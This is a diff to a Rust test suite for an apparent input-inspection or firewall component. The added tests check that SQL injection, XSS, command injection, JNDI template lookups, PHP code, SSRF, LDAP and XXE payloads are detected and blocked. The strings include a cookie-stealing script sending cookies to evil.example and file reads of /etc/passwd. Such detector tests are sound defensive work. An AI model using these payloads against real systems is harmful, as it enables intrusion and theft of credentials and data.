@@ -37,6 +37,10 @@ fn sql_injection_is_found() {
             "'; EXEC xp_cmdshell('dir'); --",
             "1; WAITFOR DELAY '0:0:5'--",
             "1 AND extractvalue(1, concat(0x7e, version()))",
+            "1' AND '{\"a\":1}'::jsonb <@ '{}'::jsonb",
+            "x; SELECT name FROM users",
+            "1;declare @x int",
+            "\" WAITFOR DELAY \"0:0:5\"",
             "x' AND 1=(SELECT 1 FROM pg_sleep(5))--",
             "1) OR (1=1",
             "1'||(SELECT password FROM users LIMIT 1)||'",
@@ -65,6 +69,10 @@ fn script_in_markup_is_found() {
             "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
             "\\u003cimg src=x onerror=alert(1)\\u003e",
             "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
+            "document/*x*/.cookie",
+            "top['alert'](1)",
+            "[][(![]+[])[+[]]]",
+            "background:url(javascript:alert)",
             "';document.location='//evil.example/'+document.cookie;'",
         ],
     );
@@ -125,6 +133,8 @@ fn commands_are_found() {
             "; python -c 'import os'",
             "|/usr/bin/id",
             "& net user",
+            "cat /???/p?ss?d",
+            "FOR /F %a IN ('dir') DO echo",
         ],
     );
 }
@@ -147,6 +157,8 @@ fn template_expressions_are_found() {
             "${${lower:j}ndi:ldap://evil.example/a}",
             "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example}",
             "@(1+2)",
+            "@{[system 'id']}",
+            "<!--#exec cmd=\"id\" -->",
             "%{7*7}",
         ],
     );
@@ -159,6 +171,9 @@ fn code_is_found() {
         &[
             "<?php system($_GET['c']); ?>",
             "<?= `id` ?>",
+            "<? echo 1 ?>",
+            "include($_file)",
+            "org.apache.commons.collections.functors.InvokerTransformer",
             "php://filter/convert.base64-encode/resource=index",
             "phar://x.phar",
             "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
@@ -175,7 +190,17 @@ fn code_is_found() {
 
 #[test]
 fn other_kinds_are_found() {
-    found("ssrf/", &["http://169.254.169.254/latest/meta-data/", "file:///etc/hosts", "gopher://127.0.0.1:6379/_INFO"]);
+    found(
+        "ssrf/",
+        &[
+            "http://169.254.169.254/latest/meta-data/",
+            "file:///etc/hosts",
+            "http://2130706433/",
+            "http://0x7f000001:8080/",
+            "http://0177.0.0.1/x",
+            "gopher://127.0.0.1:6379/_INFO",
+        ],
+    );
     found("ldap/", &["*)(uid=*))(|(uid=*", "admin)(&(password=*))"]);
     found("xml/", &["<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"]);
 }
@@ -243,5 +268,22 @@ fn headers_that_services_read_are_judged() {
         ("content-encoding", "gzip"),
     ] {
         assert_eq!(header(name, value).verdict(Threshold::default()), Verdict::Block, "{name}: {value}");
+    }
+}
+
+#[test]
+fn xml_is_judged_by_text_and_attribute() {
+    for attack in [
+        "<a>x' OR 1=1 -- </a>",
+        "<a b=\"1 OR 1=1\"/>",
+        "<a b='&lt;script&gt;alert(1)&lt;/script&gt;'/>",
+        "<a><![CDATA[../../etc/passwd]]></a>",
+        "<!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\"><a/>",
+    ] {
+        assert_eq!(
+            body("application/xml", attack.as_bytes()).verdict(Threshold::default()),
+            Verdict::Block,
+            "{attack}"
+        );
     }
 }
